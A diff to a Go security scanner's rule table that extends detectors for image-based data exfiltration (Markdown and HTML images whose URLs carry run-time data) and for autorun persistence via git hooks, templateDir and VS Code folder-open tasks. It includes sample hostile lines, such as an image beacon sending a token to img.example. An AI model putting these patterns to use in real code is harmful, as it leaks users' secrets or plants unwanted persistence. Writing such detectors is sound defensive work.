@@ -623,13 +623,21 @@ var rules = []rule{
 	{
 		id: "image-exfil", family: "exfiltration", max: SeverityWarning, prose: true,
 		caps:   []string{CapNetwork},
-		desc:   "a Markdown image whose URL carries data filled in at run time: rendering it sends the data",
+		desc:   "a Markdown or HTML image whose URL carries data filled in at run time: rendering it sends the data",
 		exFile: "report.py", exText: "print(f\"![status](https://img.example/p.png?d={token})\")\n",
-		pats: []pattern{{
-			keys: []string{"](http"},
-			re:   &lazyre.RE{Expr: `!\[[^\]]*\]\(\s*https?://[^)\s]*[?&][\w.-]+=(?:\$\{|\{\{?\s*[\w.]|\$[A-Za-z_(]|%s|<[A-Za-z_]|["'\x60]\s*(?:\+|\.\s)|\[[A-Z_]+\])`},
-			sev:  SeverityWarning,
-		}},
+		pats: []pattern{
+			{
+				keys: []string{"](http"},
+				re:   &lazyre.RE{Expr: `!\[[^\]]*\]\(\s*https?://[^)\s]*[?&][\w.-]+=(?:\$\{|\{\{?\s*[\w.]|\$[A-Za-z_(]|%s|<[A-Za-z_]|["'\x60]\s*(?:\+|\.\s)|\[[A-Z_]+\])`},
+				sev:  SeverityWarning,
+			},
+			{
+				// The same image as HTML, which Markdown renders as well.
+				keys: []string{"<img"},
+				re:   &lazyre.RE{Expr: `(?i:<img\b[^>]*?\bsrc\s*=\s*["']?)https?://[^"'\s>]*[?&][\w.-]+=(?:\$\{|\{\{?\s*[\w.]|\$[A-Za-z_(]|%s|<[A-Za-z_]|["'\x60]\s*(?:\+|\.\s)|\[[A-Z_]+\])`},
+				sev:  SeverityWarning,
+			},
+		},
 	},
 	{
 		id: "agent-config", family: "persistence", max: SeverityError, code: true, prose: true, where: lineCode,
@@ -652,12 +660,12 @@ var rules = []rule{
 	{
 		id: "autorun-config", family: "persistence", max: SeverityWarning, code: true, prose: true,
 		caps:   []string{CapWritesPersistence},
-		desc:   "sets up a command to run later on its own: git core.hooksPath or core.fsmonitor, VS Code tasks on folder open, XDG autostart, crontab -e with a scripted EDITOR, scheduled tasks",
+		desc:   "sets up a command to run later on its own: git core.hooksPath, core.fsmonitor or init.templateDir, VS Code tasks on folder open, XDG autostart, crontab -e with a scripted EDITOR, scheduled tasks",
 		exFile: ".vscode/tasks.json", exText: "{\"tasks\": [{\"label\": \"i\", \"command\": \"./x.sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
 		pats: []pattern{
 			{
-				keys:  []string{"core.hookspath", "core.fsmonitor"},
-				re:    &lazyre.RE{Expr: `(?i)\bgit\b.*\bconfig\b.*\bcore\.(?:hookspath|fsmonitor)\b|^\s*(?:hookspath|fsmonitor)\s*=`},
+				keys:  []string{"core.hookspath", "core.fsmonitor", "init.templatedir", "templatedir"},
+				re:    &lazyre.RE{Expr: `(?i)\bgit\b.*\bconfig\b.*\b(?:core\.(?:hookspath|fsmonitor)|init\.templatedir)\b|^\s*(?:hookspath|fsmonitor|templatedir)\s*=`},
 				check: gitConfigSet,
 			},
 			{
